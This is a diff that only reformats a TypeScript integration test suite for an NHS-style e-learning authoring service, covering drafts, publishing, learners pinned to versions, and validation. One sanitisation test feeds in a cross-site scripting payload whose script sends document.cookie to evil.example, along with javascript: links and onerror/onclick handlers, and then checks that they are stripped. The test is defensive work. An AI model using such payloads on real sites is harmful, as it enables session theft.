@@ -35,8 +35,17 @@ const START_ASSESSMENT = `mutation($slug: String!) { startAssessment(slug: $slug
 const SUBMIT = `mutation($i: SubmitAssessmentInput!) { submitAssessment(input: $i) { passed completedAt } }`;
 
 type Agent = Parameters<TestApp['gql']>[0];
-interface LearnerPage { id: string; title: string; bodyHtml: string; knowledgeChecks: Array<{ id: string; options: Array<{ id: string }> }> }
-interface LearnerCourse { versionNumber: number; passMarkPercent: number; modules: Array<{ id: string; position: number; title: string; pages: LearnerPage[] }> }
+interface LearnerPage {
+  id: string;
+  title: string;
+  bodyHtml: string;
+  knowledgeChecks: Array<{ id: string; options: Array<{ id: string }> }>;
+}
+interface LearnerCourse {
+  versionNumber: number;
+  passMarkPercent: number;
+  modules: Array<{ id: string; position: number; title: string; pages: LearnerPage[] }>;
+}
 interface Draft {
   id: string;
   number: number;
@@ -44,13 +53,23 @@ interface Draft {
   passMarkPercent: number;
   assessmentSize: number;
   updatedAt: string;
-  modules: Array<{ id: string; position: number; title: string; pages: Array<{ id: string; title: string; bodyMarkdown: string; bodyHtml: string; knowledgeChecks: Array<{ id: string }> }> }>;
+  modules: Array<{
+    id: string;
+    position: number;
+    title: string;
+    pages: Array<{ id: string; title: string; bodyMarkdown: string; bodyHtml: string; knowledgeChecks: Array<{ id: string }> }>;
+  }>;
   questionBank: Array<{ id: string; moduleId: string | null }>;
   problems: Array<{ field: string; message: string; itemId: string | null }>;
 }
 
 /** Markup differences that change nothing a reader sees. */
-const normalised = (html: string) => html.replace(/>\s+</g, '><').replace(/&#39;/g, "'").replace(/&quot;/g, '"').trim();
+const normalised = (html: string) =>
+  html
+    .replace(/>\s+</g, '><')
+    .replace(/&#39;/g, "'")
+    .replace(/&quot;/g, '"')
+    .trim();
 
 describe('e-learning authoring: drafts, publishing and learners pinned to their version', () => {
   let app: TestApp;
@@ -86,7 +105,10 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     const attempt = await app.gql(agent, START_ASSESSMENT, { slug: SLUG });
     expect(attempt.errors).toBeUndefined();
     const ids = attempt.data!.startAssessment.questions.map((q: { id: string }) => q.id);
-    const keys: Array<{ id: string; options: Array<{ id: string; correct: boolean }> }> = await app.dataSource.query(`SELECT id, options FROM assessment_question WHERE id = ANY($1)`, [ids]);
+    const keys: Array<{ id: string; options: Array<{ id: string; correct: boolean }> }> = await app.dataSource.query(
+      `SELECT id, options FROM assessment_question WHERE id = ANY($1)`,
+      [ids],
+    );
     const answers = keys.map((k) => ({ questionId: k.id, optionIds: k.options.filter((o) => o.correct).map((o) => o.id) }));
     const result = await app.gql(agent, SUBMIT, { i: { attemptId: attempt.data!.startAssessment.id, answers } });
     expect(result.errors).toBeUndefined();
@@ -168,9 +190,16 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
       version: 2,
       pageId: m1.pages[0].id,
       title: 'Why this matters to all of us',
-      bodyMarkdown: 'Everyone has the right to be **safe at work**.\n\n## Where to start\n\n- Read the [Sexual Safety Charter](https://www.england.nhs.uk/long-read/sexual-safety-in-healthcare-organisational-charter/)\n- Call 0808 500 2222',
+      bodyMarkdown:
+        'Everyone has the right to be **safe at work**.\n\n## Where to start\n\n- Read the [Sexual Safety Charter](https://www.england.nhs.uk/long-read/sexual-safety-in-healthcare-organisational-charter/)\n- Call 0808 500 2222',
     });
-    draft = await edit(ADD_PAGE, { version: 2, moduleId: m2.id, position: 1, title: 'New in 2026', bodyMarkdown: 'Reporting is now open to _everyone_ on the staff app.' });
+    draft = await edit(ADD_PAGE, {
+      version: 2,
+      moduleId: m2.id,
+      position: 1,
+      title: 'New in 2026',
+      bodyMarkdown: 'Reporting is now open to _everyone_ on the staff app.',
+    });
     const newPage = draft.modules[1].pages[0];
     expect(newPage).toMatchObject({ title: 'New in 2026', bodyHtml: '<p>Reporting is now open to <em>everyone</em> on the staff app.</p>' });
     draft = await edit(ADD_CHECK, {
@@ -208,7 +237,13 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
 
     const published = await app.gql(author, PUBLISH, { i: { slug: SLUG, version: 2 } });
     expect(published.errors).toBeUndefined();
-    expect(published.data!.publishCourseDraft).toMatchObject({ id: draft.id, number: 2, status: 'PUBLISHED', publishedAt: '2026-03-02T09:00:00.000Z', learners: 0 });
+    expect(published.data!.publishCourseDraft).toMatchObject({
+      id: draft.id,
+      number: 2,
+      status: 'PUBLISHED',
+      publishedAt: '2026-03-02T09:00:00.000Z',
+      learners: 0,
+    });
     const versions = await app.gql(author, VERSIONS, { slug: SLUG });
     expect(versions.data!.courseVersions).toMatchObject([
       { number: 2, status: 'PUBLISHED', learners: 0, title: 'Understanding sexual misconduct in the workplace (2026)' },
@@ -218,7 +253,14 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     expect(await countRows(app.dataSource, 'course_draft')).toBe(0);
     const audited = await app.dataSource.query(`SELECT action FROM audit_event WHERE entity_id = $1 ORDER BY occurred_at, action`, [draft.id]);
     expect(audited.map((a: { action: string }) => a.action)).toEqual(
-      expect.arrayContaining(['course_version.draft_created', 'course_draft.settings_updated', 'course_draft.page_added', 'course_draft.knowledge_check_added', 'course_draft.bank_question_added', 'course_version.published']),
+      expect.arrayContaining([
+        'course_version.draft_created',
+        'course_draft.settings_updated',
+        'course_draft.page_added',
+        'course_draft.knowledge_check_added',
+        'course_draft.bank_question_added',
+        'course_version.published',
+      ]),
     );
 
     // The first learner carries on where they were, on version 1, and completes it.
@@ -241,7 +283,10 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     expect(v2.modules[1].pages[0]).toMatchObject({ id: newPage.id, title: 'New in 2026' });
     expect(v2.modules[2].title).toBe(fourth.title);
     expect(v2.modules[1].pages[0].knowledgeChecks[0].options).toHaveLength(3);
-    await readPages(next, v2.modules.flatMap((m) => m.pages));
+    await readPages(
+      next,
+      v2.modules.flatMap((m) => m.pages),
+    );
     await passAssessment(next);
 
     // Each completion records the version it was made on, and each organisation counts its learner.
@@ -278,13 +323,23 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     draft = await edit(REMOVE_MODULE, { version: 3, id: draft.modules[0].id });
     expect(draft.questionBank.filter((q) => q.moduleId === null).length).toBeGreaterThan(0);
     // Edits at the same moment queue on the draft: neither is lost.
-    const parallel = await Promise.all(['In parallel 1', 'In parallel 2'].map((title) => app.gql(author, ADD_MODULE, { i: { slug: SLUG, version: 3, title } })));
+    const parallel = await Promise.all(
+      ['In parallel 1', 'In parallel 2'].map((title) => app.gql(author, ADD_MODULE, { i: { slug: SLUG, version: 3, title } })),
+    );
     expect(parallel.map((r) => r.errors)).toEqual([undefined, undefined]);
     draft = (await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft;
-    for (const title of ['In parallel 1', 'In parallel 2']) draft = await edit(REMOVE_MODULE, { version: 3, id: draft.modules.find((m) => m.title === title)!.id });
+    for (const title of ['In parallel 1', 'In parallel 2'])
+      draft = await edit(REMOVE_MODULE, { version: 3, id: draft.modules.find((m) => m.title === title)!.id });
     draft = await edit(SETTINGS, { version: 3, assessmentSize: 100 });
     const checked = draft.modules[0].pages.find((p) => p.knowledgeChecks.length > 0)!;
-    draft = await edit(UPDATE_CHECK, { version: 3, checkId: checked.knowledgeChecks[0].id, kind: 'MULTIPLE', prompt: 'Nothing is right', options: [{ label: 'Only', correct: false }], feedback: 'None.' });
+    draft = await edit(UPDATE_CHECK, {
+      version: 3,
+      checkId: checked.knowledgeChecks[0].id,
+      kind: 'MULTIPLE',
+      prompt: 'Nothing is right',
+      options: [{ label: 'Only', correct: false }],
+      feedback: 'None.',
+    });
     draft = await edit(UPDATE_PAGE, { version: 3, pageId: draft.modules[0].pages[0].id, bodyMarkdown: 'A picture: ![](https://assets.nhs.uk/picture.png)' });
 
     const bankPosition = draft.questionBank.findIndex((q) => q.id === ambiguous.id) + 1;
@@ -312,7 +367,9 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
       `Module 1, page ${checkPage}, knowledge check 1: give at least two answers to choose from`,
       `Module 1, page ${checkPage}, knowledge check 1: mark at least one answer correct`,
     ]);
-    expect(fields[`questionBank.${bankPosition}.options`]).toEqual([`Bank question ${bankPosition}: mark exactly one answer correct, as it is a single-choice question`]);
+    expect(fields[`questionBank.${bankPosition}.options`]).toEqual([
+      `Bank question ${bankPosition}: mark exactly one answer correct, as it is a single-choice question`,
+    ]);
     expect(fields[`questionBank.${bankPosition}.module`]).toEqual([`Bank question ${bankPosition}: choose the module that teaches its answer`]);
     expect(fields.questionBank[0]).toMatch(/^The question bank has \d+ questions: the assessment draws 100/);
     expect(await app.dataSource.query(`SELECT number, status FROM course_version ORDER BY number`)).toEqual(before);
@@ -325,15 +382,32 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     const draft = (await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft as Draft;
     const unchanged = await app.dataSource.query(`SELECT content, updated_at FROM course_draft`);
 
-    const blank = await app.gql(author, ADD_PAGE, { i: { slug: SLUG, version: 3, moduleId: draft.modules[0].id, title: '   ', bodyMarkdown: 'x'.repeat(20_001) } });
-    expect(blank.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', fields: { title: ['Enter a page title'], bodyMarkdown: ['A page must be 20,000 characters or fewer'] } });
-    const badQuestion = await app.gql(author, ADD_QUESTION, { i: { slug: SLUG, version: 3, moduleId: 'not-a-uuid', kind: 'SINGLE', prompt: '', options: [{ label: '', correct: true }] } });
-    expect(badQuestion.errors?.[0].extensions?.fields).toMatchObject({ moduleId: ['Choose a module of this draft'], prompt: ['Enter the question'], 'options.0.label': ['Enter the answer'] });
+    const blank = await app.gql(author, ADD_PAGE, {
+      i: { slug: SLUG, version: 3, moduleId: draft.modules[0].id, title: '   ', bodyMarkdown: 'x'.repeat(20_001) },
+    });
+    expect(blank.errors?.[0].extensions).toMatchObject({
+      code: 'BAD_USER_INPUT',
+      fields: { title: ['Enter a page title'], bodyMarkdown: ['A page must be 20,000 characters or fewer'] },
+    });
+    const badQuestion = await app.gql(author, ADD_QUESTION, {
+      i: { slug: SLUG, version: 3, moduleId: 'not-a-uuid', kind: 'SINGLE', prompt: '', options: [{ label: '', correct: true }] },
+    });
+    expect(badQuestion.errors?.[0].extensions?.fields).toMatchObject({
+      moduleId: ['Choose a module of this draft'],
+      prompt: ['Enter the question'],
+      'options.0.label': ['Enter the answer'],
+    });
     const badPosition = await app.gql(author, UPDATE_MODULE, { i: { slug: SLUG, version: 3, moduleId: draft.modules[0].id, position: 99 } });
-    expect(badPosition.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'ELEARNING_POSITION_INVALID', fields: { position: [`Choose a position from 1 to ${draft.modules.length}`] } });
+    expect(badPosition.errors?.[0].extensions).toMatchObject({
+      code: 'BAD_USER_INPUT',
+      reason: 'ELEARNING_POSITION_INVALID',
+      fields: { position: [`Choose a position from 1 to ${draft.modules.length}`] },
+    });
 
     // Ids of version 2's published rows are not items of the draft.
-    const [publishedPage] = await app.dataSource.query(`SELECT p.id FROM course_page p JOIN course_module m ON m.id = p.module_id JOIN course_version v ON v.id = m.version_id WHERE v.number = 2 LIMIT 1`);
+    const [publishedPage] = await app.dataSource.query(
+      `SELECT p.id FROM course_page p JOIN course_module m ON m.id = p.module_id JOIN course_version v ON v.id = m.version_id WHERE v.number = 2 LIMIT 1`,
+    );
     const elsewhere = await app.gql(author, REMOVE_PAGE, { i: { slug: SLUG, version: 3, id: publishedPage.id } });
     expect(elsewhere.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', reason: 'ELEARNING_DRAFT_ITEM_NOT_FOUND' });
     const noQuestion = await app.gql(author, REMOVE_QUESTION, { i: { slug: SLUG, version: 3, id: draft.modules[0].id } });
@@ -346,7 +420,10 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
         [UPDATE_PAGE, { pageId: publishedPage.id, title: 'Changed under learners’ feet' }],
         [SETTINGS, { passMarkPercent: 10 }],
         [ADD_MODULE, { title: 'Late addition' }],
-        [UPDATE_QUESTION, { questionId: draft.questionBank[0].id, moduleId: draft.modules[0].id, kind: 'SINGLE', prompt: 'Q', options: [{ label: 'A', correct: true }] }],
+        [
+          UPDATE_QUESTION,
+          { questionId: draft.questionBank[0].id, moduleId: draft.modules[0].id, kind: 'SINGLE', prompt: 'Q', options: [{ label: 'A', correct: true }] },
+        ],
         [PUBLISH, {}],
       ] as const) {
         const result = await app.gql(author, query, { i: { slug: SLUG, version, ...input } });
@@ -357,7 +434,10 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     expect(missing.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', reason: 'ELEARNING_VERSION_NOT_FOUND' });
     const unknown = await app.gql(author, CREATE, { slug: 'no-such-course' });
     expect(unknown.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', reason: 'ELEARNING_COURSE_NOT_FOUND' });
-    expect((await app.dataSource.query(`SELECT title, pass_mark_percent FROM course_version WHERE number = 2`))[0]).toEqual({ title: 'Understanding sexual misconduct in the workplace (2026)', pass_mark_percent: 70 });
+    expect((await app.dataSource.query(`SELECT title, pass_mark_percent FROM course_version WHERE number = 2`))[0]).toEqual({
+      title: 'Understanding sexual misconduct in the workplace (2026)',
+      pass_mark_percent: 70,
+    });
   });
 
   it('strips unsafe markup from what learners would see, and will not publish a page that needed it', async () => {
@@ -366,7 +446,8 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
     draft = await edit(UPDATE_PAGE, {
       version: 3,
       pageId: page.id,
-      bodyMarkdown: 'Read this.<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\n[Click here](javascript:alert(document.cookie)) <a href="javascript:alert(1)" onclick="alert(2)">or here</a> <img src=x onerror=alert(3)>',
+      bodyMarkdown:
+        'Read this.<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\n[Click here](javascript:alert(document.cookie)) <a href="javascript:alert(1)" onclick="alert(2)">or here</a> <img src=x onerror=alert(3)>',
     });
     const html = draft.modules[0].pages[1].bodyHtml;
     expect(html).not.toMatch(/script|javascript|onclick|onerror|<img|evil\.example/i);
@@ -383,7 +464,11 @@ describe('e-learning authoring: drafts, publishing and learners pinned to their 
 
     // Once the page is plain Markdown again, and the rest fixed, version 3 publishes.
     draft = await edit(UPDATE_PAGE, { version: 3, pageId: page.id, bodyMarkdown: 'Read this, then [contact Rape Crisis](https://rapecrisis.org.uk).' });
-    draft = await edit(UPDATE_PAGE, { version: 3, pageId: draft.modules[0].pages[0].id, bodyMarkdown: 'A picture: ![A ward corridor](https://assets.nhs.uk/picture.png)' });
+    draft = await edit(UPDATE_PAGE, {
+      version: 3,
+      pageId: draft.modules[0].pages[0].id,
+      bodyMarkdown: 'A picture: ![A ward corridor](https://assets.nhs.uk/picture.png)',
+    });
     const broken = draft.modules[0].pages.find((p) => p.knowledgeChecks.length > 0)!;
     draft = await edit(UPDATE_CHECK, {
       version: 3,
